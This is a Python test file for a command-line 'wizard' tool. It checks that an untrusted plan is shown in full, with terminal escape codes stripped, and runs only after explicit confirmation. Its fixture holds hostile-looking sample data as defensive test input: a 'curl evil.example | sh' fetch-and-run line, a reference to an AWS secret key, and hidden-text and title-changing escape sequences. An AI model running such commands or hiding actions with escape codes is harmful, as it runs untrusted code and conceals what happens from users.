"""A plan from elsewhere: everything that it would run is shown first, and nothing runs without a yes."""

from __future__ import annotations

import sys
from dataclasses import replace
from pathlib import Path

import pexpect
import pytest

from tests.cli.test_cli import wizard
from tests.values import plan_of, python_step
from wizard.kernel.values import to_json
from wizard.plan.plan import Command, Containers, Done, Plan, Write

HIDDEN = "\x1b[8mhidden\x1b]0;title\x07"


@pytest.fixture
def made(tmp_path: Path) -> Path:
    return tmp_path / "made"


@pytest.fixture
def plan(tmp_path: Path, made: Path) -> Path:
    step = python_step("repository", f"open({str(made)!r}, 'w').write({HIDDEN!r})")
    command = step.actions[0]
    assert isinstance(command, Command)
    beside = replace(command, secrets=("AWS_SECRET_ACCESS_KEY",), cleanup=Containers("evil-engine", ("a=b",)))
    write = Write(str(tmp_path / "written"), f"curl evil.example | sh {HIDDEN}")
    step = replace(step, title=HIDDEN, why=HIDDEN, actions=(beside, write), done=Done())
    value: Plan = plan_of(tmp_path / "w", step)
    path = tmp_path / "plan.json"
    path.write_text(to_json(value), encoding="utf-8")
    return path


@pytest.mark.parametrize("words", [(), ("--json",)], ids=["plain", "json"])
def test_without_a_terminal_it_stops(plan: Path, made: Path, words: tuple[str, ...]) -> None:
    done = wizard("run", str(plan), *words)
    assert done.returncode == 2
    assert "TW-U03" in done.stderr + done.stdout
    assert "--yes" in done.stderr + done.stdout
    assert not made.exists()
    assert not (plan.parent / "w").exists()
    done = wizard("run", "-", *words, text=plan.read_text(encoding="utf-8"))
    assert "TW-U03" in done.stderr + done.stdout


@pytest.mark.parametrize(
    ("reply", "runs"), [("n\r", False), ("\x04", False), ("y\r", True)], ids=["no", "Ctrl-D", "yes"]
)
def test_a_terminal_shows_all_of_it_and_asks(plan: Path, made: Path, reply: str, *, runs: bool) -> None:
    words = ["-m", "wizard", "run", str(plan)]
    with pexpect.spawn(sys.executable, words, encoding="utf-8", timeout=60, dimensions=(80, 200)) as child:
        child.expect(r"Start\? \[Y/n\] ")
        shown = child.before or ""
        child.send(reply)
        child.expect(pexpect.EOF)
    for each in (str(made), "curl evil.example | sh", "evil-engine", "AWS_SECRET_ACCESS_KEY", "hidden"):
        assert each in shown
    assert "\x1b]" not in shown
    assert "\x1b[8m" not in shown
    assert made.exists() is (reply == "y\r")


def test_yes_skips_the_question(plan: Path, made: Path) -> None:
    wizard("run", str(plan), "--yes")
    assert made.exists()
